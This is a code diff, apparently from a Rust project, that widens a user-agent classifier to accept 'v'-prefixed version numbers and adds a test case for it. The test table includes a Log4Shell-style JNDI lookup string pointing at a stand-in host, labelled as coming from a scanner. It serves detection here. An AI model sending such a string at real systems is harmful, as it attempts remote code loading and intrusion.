@@ -90,14 +90,15 @@ impl Clients {
     }
 }
 
-/// Whether an agent is `name/1...`, as libraries and apps call themselves. Mozilla/ is what browsers begin with.
+/// Whether an agent is `name/1...` or `name/v1...`, as libraries and apps call themselves. Mozilla/ is what browsers
+/// begin with.
 fn begins_as_a_program(agent: &[u8]) -> bool {
     let name = agent.split(|byte| *byte == b'/').next().unwrap_or_default();
     let is_name = name.first().is_some_and(u8::is_ascii_alphabetic)
         && name.iter().all(|byte| byte.is_ascii_alphanumeric() || b"._-".contains(byte));
-    is_name
-        && !name.eq_ignore_ascii_case(b"mozilla")
-        && agent.get(name.len() + 1).is_some_and(u8::is_ascii_digit)
+    let version = agent.get(name.len() + 1..).unwrap_or_default();
+    let version = version.strip_prefix(b"v").unwrap_or(version);
+    is_name && !name.eq_ignore_ascii_case(b"mozilla") && version.first().is_some_and(u8::is_ascii_digit)
 }
 
 #[cfg(test)]
@@ -130,6 +131,7 @@ mod tests {
             ("Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", "seo"),
             ("curl/8.5.0", "tool"),
             ("my-own_app/3.1 (build 7)", "tool"),
+            ("copier/v1.68.2", "tool"),
             ("${jndi:ldap://x.example/a}", "scanner"),
             ("Mozilla/5.0", "other"),
             ("-", "other"),
